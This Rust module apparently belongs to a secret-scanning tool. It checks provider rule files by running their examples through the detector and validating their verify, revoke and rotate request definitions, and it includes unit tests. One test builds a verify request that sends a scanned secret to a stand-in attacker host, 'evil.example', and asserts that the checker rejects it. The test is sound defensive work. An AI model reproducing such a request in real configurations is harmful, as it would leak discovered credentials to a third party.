//! Proves rule files: by their own examples through the whole engine, by their recorded replies,
//! and by what can be read off them.

mod calls;
mod rotate;
mod usage;

use crate::call::Pattern;
use crate::detect::{Detector, Why, Workspace};
use crate::rule::{self, LoadError, Rule, RuleFile, RuleSet, checksum, embedded_texts, example};
use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Fewest examples of each sort that a rule must have.
const EXAMPLES: usize = 2;

/// What a check found.
#[derive(Debug, Default)]
pub struct Report {
    /// Files read.
    pub files: usize,
    /// Rules in them.
    pub rules: usize,
    /// Examples that must match.
    pub matches: usize,
    /// Examples that must not.
    pub rejects: usize,
    /// Recorded replies.
    pub replies: usize,
    /// What is wrong.
    pub faults: Vec<Fault>,
}

/// One thing that is wrong with a rule file.
#[derive(Debug)]
pub struct Fault {
    /// The file.
    pub path: PathBuf,
    /// Line of the rule, from 1.
    pub line: usize,
    /// The rule or provider.
    pub id: String,
    /// What is wrong and how to cure it.
    pub message: String,
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}: {}: {}", self.path.display(), self.line, self.id, self.message)
    }
}

/// Checks the embedded rules.
pub fn embedded() -> Report {
    let files =
        embedded_texts().iter().map(|(name, text)| (PathBuf::from(name), (*text).to_owned())).collect();
    check(files, RuleSet::embedded(), Vec::new())
}

/// Checks rule files and folders of them, as they would be used beside the embedded rules.
///
/// # Errors
/// A path that cannot be read. What is wrong inside of files is in the report.
pub fn paths(paths: &[PathBuf]) -> Result<Report, LoadError> {
    let mut files = Vec::new();
    for path in paths {
        let io = |source| LoadError::Io { path: path.clone(), source };
        let mut list = vec![path.clone()];
        if path.is_dir() {
            list = std::fs::read_dir(path).map_err(io)?.filter_map(|e| Some(e.ok()?.path())).collect();
            list.retain(|p| p.extension().is_some_and(|e| e == "toml"));
            list.sort();
        }
        for file in list {
            let text = std::fs::read_to_string(&file)
                .map_err(|source| LoadError::Io { path: file.clone(), source })?;
            files.push((file, text));
        }
    }
    let mut rules = RuleSet::embedded();
    let mut faults = Vec::new();
    for (path, _) in &files {
        if let Err(error) = rules.add_path(path) {
            faults.push(Fault {
                path: path.clone(),
                line: 1,
                id: "file".to_owned(),
                message: error.to_string(),
            });
        }
    }
    Ok(check(files, rules, faults))
}

struct Check {
    detector: Detector,
    work: Workspace,
    report: Report,
    path: PathBuf,
    text: String,
}

fn check(files: Vec<(PathBuf, String)>, rules: RuleSet, faults: Vec<Fault>) -> Report {
    let report = Report { files: files.len(), faults, ..Report::default() };
    let detector = Detector::new(Arc::new(rules));
    let mut check =
        Check { detector, work: Workspace::default(), report, path: PathBuf::new(), text: String::new() };
    let mut ids = BTreeMap::new();
    for (path, text) in files {
        (check.path, check.text) = (path, text);
        match rule::parse(&check.path, &check.text) {
            Ok(file) => check.file(&file, &mut ids),
            Err(error) => check.fault("file", error.to_string()),
        }
    }
    check.report
}

impl Check {
    fn fault(&mut self, id: &str, message: impl Into<String>) {
        let line = rule::line_of(&self.text, id);
        self.report.faults.push(Fault {
            path: self.path.clone(),
            line,
            id: id.to_owned(),
            message: message.into(),
        });
    }

    fn file(&mut self, file: &RuleFile, ids: &mut BTreeMap<String, PathBuf>) {
        let provider = &file.provider;
        if self.path.file_stem().is_some_and(|s| s != provider.id.as_str()) {
            self.fault(&provider.id, format!("the file of provider `{0}` is named `{0}.toml`", provider.id));
        }
        for host in &provider.hosts {
            if let Err(why) = Pattern::of_provider(host) {
                self.fault(&provider.id, format!("hosts: {why}"));
            }
        }
        if provider.rate.is_some_and(|rate| !(rate.is_finite() && rate > 0.0)) {
            self.fault(&provider.id, "rate must be more than nothing");
        }
        for meter in &file.usage {
            self.meter(provider, meter, ids);
        }
        for rule in &file.rule {
            self.report.rules += 1;
            if let Some(other) = ids.insert(rule.id.clone(), self.path.clone()) {
                self.fault(&rule.id, format!("the id stands in {} too; choose another", other.display()));
            }
            if !rule.id.starts_with(&format!("{}-", provider.id)) {
                self.fault(&rule.id, format!("the id must begin with `{}-`", provider.id));
            }
            self.rule(rule);
            if let Some(verify) = &rule.verify {
                self.verify(rule, verify, &provider.hosts);
            }
            if let Some(revoke) = &rule.revoke {
                self.revoke(rule, revoke, &provider.hosts);
            }
            for fault in rule.rotate.iter().flat_map(|r| r.faults()) {
                self.fault(&rule.id, format!("rotate: {fault}"));
            }
            if let Some(calls) = rule.rotate.as_ref().and_then(|r| r.calls.as_deref()) {
                self.rotate(rule, calls, &provider.hosts);
            }
            if let Some(access) = &rule.access {
                self.access(rule, access, &provider.hosts);
            }
        }
    }

    fn rule(&mut self, rule: &Rule) {
        for (what, list) in [("matches", &rule.matches), ("rejects", &rule.rejects)] {
            // A text rule may be another scanner's, whose examples are not to be had.
            if list.len() < EXAMPLES && rule.text.is_none() {
                self.fault(
                    &rule.id,
                    format!("{what} has {} examples; write at least {EXAMPLES}", list.len()),
                );
            }
        }
        if rule.source.is_empty() {
            self.fault(&rule.id, "source is empty; say where the facts come from");
        }
        for glob in &rule.paths {
            if let Err(e) = globset::Glob::new(glob) {
                self.fault(&rule.id, format!("paths: {e}"));
            }
        }
        for with in &rule.with {
            if self.detector.rules().position(&with.rule).is_none() {
                self.fault(&rule.id, format!("the partner `{}` is no rule's id", with.rule));
            }
        }
        let algorithm = rule.checksum.as_ref().and_then(|c| {
            let found = checksum::by_name(&c.algorithm);
            if found.is_none() {
                self.fault(
                    &rule.id,
                    format!(
                        "there is no checksum `{}`; `keywheel rules list --checksums` names them",
                        c.algorithm
                    ),
                );
            }
            found
        });
        if let (Some(a), Some(c)) = (algorithm, &rule.checksum)
            && c.mode == rule::ChecksumMode::Drop
            && !a.proved()
        {
            self.fault(
                &rule.id,
                format!("`{}` was not reproduced on published samples; mode = \"lower\"", a.name()),
            );
        }
        let Some(kind) = self.detector.rules().position(&rule.id) else { return };
        let file =
            rule.paths.first().map(|glob| glob.replace("**/", "").replace('*', "x")).unwrap_or_default();
        for (n, text) in rule.matches.iter().enumerate() {
            self.report.matches += 1;
            if let Err(message) = self.must_match(kind, text, &file, algorithm, seed(&rule.id, n)) {
                self.fault(&rule.id, format!("matches[{n}] {message}"));
            }
        }
        for (n, text) in rule.rejects.iter().enumerate() {
            self.report.rejects += 1;
            match example::expand_plain(text, algorithm, seed(&rule.id, 1000 + n)) {
                Err(message) => self.fault(&rule.id, format!("rejects[{n}] {message}")),
                Ok(text) => {
                    let found = self.detector.scan(&text, file.as_bytes(), &mut self.work);
                    if found.iter().any(|f| f.kind == kind || f.also.contains(&kind)) {
                        self.fault(&rule.id, format!("rejects[{n}] is reported"));
                    }
                }
            }
        }
    }

    fn must_match(
        &mut self,
        kind: usize,
        text: &str,
        file: &str,
        algorithm: Option<&dyn checksum::Checksum>,
        seed: u64,
    ) -> Result<(), String> {
        let example = example::expand(text, algorithm, seed)?;
        self.work.dropped = Some(Vec::new());
        let found = self.detector.scan(&example.text, file.as_bytes(), &mut self.work);
        let dropped = self.work.dropped.take().unwrap_or_default();
        let kinds = self.detector.rules().kinds();
        let here = |f: &&crate::detect::Found| {
            f.span.start < example.secret.end && example.secret.start < f.span.end
        };
        let near: Vec<_> = found.iter().filter(here).collect();
        if let Some(f) = near.iter().find(|f| f.kind == kind || f.also.contains(&kind)) {
            if f.secret.expose() == example.value || f.kind != kind {
                return Ok(());
            }
            return Err(format!(
                "is found, but the secret is not what `<…>` marks: it has {} bytes, not {}",
                f.secret.len(),
                example.value.len()
            ));
        }
        let why: Vec<String> = dropped
            .iter()
            .filter(|d| d.kind == kind)
            .map(|d| match d.why {
                Why::Filter(reason) => format!("the filter `{}` dropped it", reason.as_str()),
                Why::NoPartner => "a required partner is not near".to_owned(),
                Why::Merged(other) => format!("`{}` was preferred", kinds[other].id),
            })
            .collect();
        Err(if !why.is_empty() {
            format!("is not reported: {}", why.join("; "))
        } else if !self.detector.raw(&example.text, &mut self.work).iter().any(|r| r.kind == kind) {
            "is not reported: the pattern does not match there, or no context word is near".to_owned()
        } else if let Some(f) = near.first() {
            format!("is reported only as `{}`", kinds[f.kind].id)
        } else {
            "is not reported".to_owned()
        })
    }
}

/// A seed that stays with an example, so that a check gives the same result each time.
fn seed(id: &str, n: usize) -> u64 {
    id.bytes()
        .fold(0xcbf2_9ce4_8422_2325 ^ n as u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3))
}

/// The examples of a rule file, expanded: what the matching tests of the crate place into buffers.
pub fn examples(path: &Path, text: &str) -> Result<Vec<(String, example::Expanded)>, String> {
    let file = rule::parse(path, text).map_err(|e| e.to_string())?;
    let mut out = Vec::new();
    for rule in &file.rule {
        let algorithm = rule.checksum.as_ref().and_then(|c| checksum::by_name(&c.algorithm));
        for (n, text) in rule.matches.iter().enumerate() {
            out.push((rule.id.clone(), example::expand(text, algorithm, seed(&rule.id, n))?));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(super) fn check_text(text: &str) -> Vec<String> {
        let file: RuleFile = toml::from_str(text).unwrap();
        let dir =
            std::env::temp_dir().join(format!("keywheel-check-{}-{:p}", std::process::id(), text.as_ptr()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(format!("{}.toml", file.provider.id));
        std::fs::write(&path, text).unwrap();
        let report = paths(std::slice::from_ref(&dir)).unwrap();
        std::fs::remove_dir_all(dir).unwrap();
        report.faults.iter().map(|f| f.message.clone()).collect()
    }

    pub(super) const GOOD: &str = r#"
        [provider]
        id = "acmetest"
        name = "Acme"
        hosts = ["api.acme.example"]
        [[rule]]
        id = "acmetest-key"
        name = "Acme key"
        severity = "high"
        confidence = "high"
        pattern = '\b(?<secret>acmet_[A-Za-z0-9]{40})\b'
        source = ["made up"]
        matches = ['k=<acmet_{a62:40}>', '"<acmet_{a62:40}>"']
        rejects = ['k=acmet_{a62:39}', 'k=acmet_{x:40}']
    "#;

    #[test]
    fn a_good_rule_passes() {
        assert_eq!(check_text(GOOD), Vec::<String>::new());
    }

    #[test]
    fn each_fault_is_told() {
        let faults = |from: &str, to: &str| check_text(&GOOD.replace(from, to)).join("; ");
        assert!(faults("'k=acmet_{x:40}'", "'k=acmet_{a62:40}'").contains("rejects[1] is reported"));
        assert!(faults("<acmet_{a62:40}>'", "<acmet_{a62:38}>'").contains("matches[0] is not reported"));
        assert!(faults("acmetest-key", "other-key").contains("must begin with"));
        assert!(faults(", 'k=acmet_{x:40}'", "").contains("rejects has 1"));
        let verify = |more: &str| check_text(&format!("{GOOD}\n[rule.verify]\n{more}")).join("; ");
        let request = |url: &str, auth: &str| {
            format!(
                "request = {{ method = 'GET', url = '{url}', headers = {{ A = '{auth}' }} }}\nreplies = [{{ status = 200, body = '{{\"id\":1}}', is = 'active' }}]\n"
            )
        };
        let good = request("https://api.acme.example/me", "{{ secret }}");
        assert_eq!(verify(&format!("{good}active = [{{ status = 200, json = {{ '/id' = '*' }} }}]")), "");
        assert!(verify(&format!("{good}active = [{{ status = 200 }}]")).contains("status alone"));
        assert!(
            verify(&format!("{good}active = [{{ status = 201, contains = 'x' }}]"))
                .contains("judged Unknown")
        );
        let evil = request("https://evil.example/me", "{{ secret }}");
        assert!(
            verify(&format!("{evil}active = [{{ status = 200, contains = 'id' }}]")).contains("not among")
        );
        let hole = request("https://api.acme.example/me", "{{ password }}");
        assert!(
            verify(&format!("{hole}active = [{{ status = 200, contains = 'id' }}]"))
                .contains("nothing gives `password`")
        );
    }
}
